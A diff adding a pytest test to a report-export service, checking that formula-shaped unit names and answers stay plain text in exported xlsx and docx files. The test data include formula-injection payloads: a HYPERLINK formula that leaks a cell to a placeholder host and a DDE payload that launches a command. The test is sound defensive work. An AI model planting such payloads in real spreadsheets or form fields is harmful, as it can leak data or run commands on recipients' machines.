@@ -3,10 +3,12 @@ what the units typed."""
 
 from __future__ import annotations
 
+import csv
 import io
 import threading
 from datetime import datetime
 from decimal import Decimal
+from pathlib import Path
 
 import docx
 import pytest
@@ -300,3 +302,46 @@ async def test_files_are_built_off_the_event_loop(
 
     assert len(threads) == 2
     assert threading.get_ident() not in threads
+
+
+async def test_formula_like_text_stays_text_in_the_workbook_and_the_draft_report(
+    services: Services, tmp_path: Path
+) -> None:
+    # Names and answers typed outside the office, all shaped like spreadsheet formulas.
+    unit_name = '=HYPERLINK("http://x/?d="&B3,"Trường THPT Quốc Học")'
+    block_name = "=1+1 Khối trung tâm"
+    answers = {
+        "highlights": '=HYPERLINK("http://x/?d="&B3,"Chi tiết")',
+        "shortcomings": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "next_quarter": "+1+1",
+        "requests": "-2+3",
+        "signed_report": "file:=2+3.pdf",
+    }
+    renamed = tmp_path / "renamed.csv"
+    with renamed.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(
+            [["code", "name", "block"], ["THPT-QH", unit_name, "truc_thuoc"]]
+        )
+    assert (await services.roster.import_file(renamed, actor="test")).updated == 1
+    await services.roster.add_block("trung_tam", block_name)
+    await submit(services, await bind(services, 9701, "THPT-QH"), answers)
+    period = await services.periods.resolve("2025-Q1")
+    assert period is not None
+
+    book = load_workbook(io.BytesIO((await services.export.render(period, "xlsx")).content))
+
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
+    hostile = [unit_name, block_name, "=2+3.pdf", *answers.values()]
+    hostile.remove("file:=2+3.pdf")
+    for text in hostile:
+        assert by_value[text].data_type == "s", text  # shown as typed, as text
+
+    document = docx.Document(io.BytesIO((await services.export.render(period, "docx")).content))
+    body = document.element.xml
+    # Word runs only field codes; the units' words are plain runs of text.
+    assert "fldSimple" not in body
+    assert "instrText" not in body
+    shown = "\n".join(p.text for p in document.paragraphs)
+    assert answers["highlights"] in shown
